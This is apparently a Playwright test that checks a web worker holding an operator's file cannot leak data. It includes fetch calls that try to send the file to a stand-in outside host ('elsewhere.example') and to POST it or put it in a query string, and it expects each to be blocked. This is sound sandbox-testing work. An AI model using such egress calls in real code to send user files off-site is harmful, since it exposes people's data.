import { readdirSync } from 'node:fs';
import { expect, test } from './fixture.ts';

/** The least that is a module of WebAssembly. */
const module = [0, 97, 115, 109, 1, 0, 0, 0];

test('nothing leaves the worker that holds an operator’s file, and it may run what reads GeoPackages', async ({
  page,
  given,
}) => {
  await given.atlas();
  const file = readdirSync('dist/assets').find((name) => /^own-hazards-desk-.*\.js$/.test(name)) ?? '';
  const started = page.waitForEvent('worker');
  const address = new URL(`assets/${file}`, page.url()).href;
  await page.evaluate((address) => void new Worker(address, { type: 'module' }), address);
  const worker = await started;
  await expect.poll(() => worker.evaluate(() => typeof XMLHttpRequest)).toBe('undefined');
  const tried = await worker.evaluate(async (bytes) => {
    const said = (error: unknown) => String(error);
    return {
      doors: [typeof WebSocket, typeof EventSource, typeof Worker, typeof BroadcastChannel, typeof RTCPeerConnection],
      elsewhere: await fetch('https://elsewhere.example/?file').then(String, said),
      sent: await fetch(location.href, { method: 'POST', body: 'file' }).then(String, said),
      asked: await fetch(`${location.href}?file`).then(String, said),
      own: await fetch(location.href).then(({ status }) => status),
      compiled: await WebAssembly.compile(new Uint8Array(bytes)).then(String, said),
    };
  }, module);
  expect(tried).toEqual({
    doors: ['undefined', 'undefined', 'undefined', 'undefined', 'undefined'],
    elsewhere: 'TypeError: Nothing leaves this worker.',
    sent: 'TypeError: Nothing leaves this worker.',
    asked: 'TypeError: Nothing leaves this worker.',
    own: 200,
    compiled: '[object WebAssembly.Module]',
  });
});
